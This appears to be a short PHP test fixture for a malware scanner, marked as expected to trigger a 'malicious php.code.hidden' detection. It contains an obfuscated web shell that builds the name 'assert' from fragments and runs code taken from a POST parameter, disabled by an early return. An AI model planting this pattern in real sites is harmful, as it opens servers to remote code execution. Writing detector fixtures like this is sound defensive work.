<?php return; // want: malicious php.code.hidden
$a = 'as' . 'se';
$b = $a . 'rt';
$b($_POST['z']);
